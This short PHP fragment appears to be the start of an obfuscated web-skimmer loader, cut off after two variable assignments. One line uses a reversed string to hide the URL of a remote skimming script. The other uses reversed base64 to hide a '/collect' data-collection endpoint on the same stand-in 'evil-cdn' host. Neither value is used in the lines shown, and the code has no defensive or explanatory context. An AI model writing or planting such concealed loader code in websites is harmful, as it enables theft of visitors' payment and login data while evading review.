<?php
$u = strrev('sj.c/elpmaxe.ndc-live.miks//:sptth');
$v = base64_decode(strrev('==AdjVGbs92YvUGbw1WY4VmLuR2YtwWa2VmLtl2az9yL6MHc0RHa'));
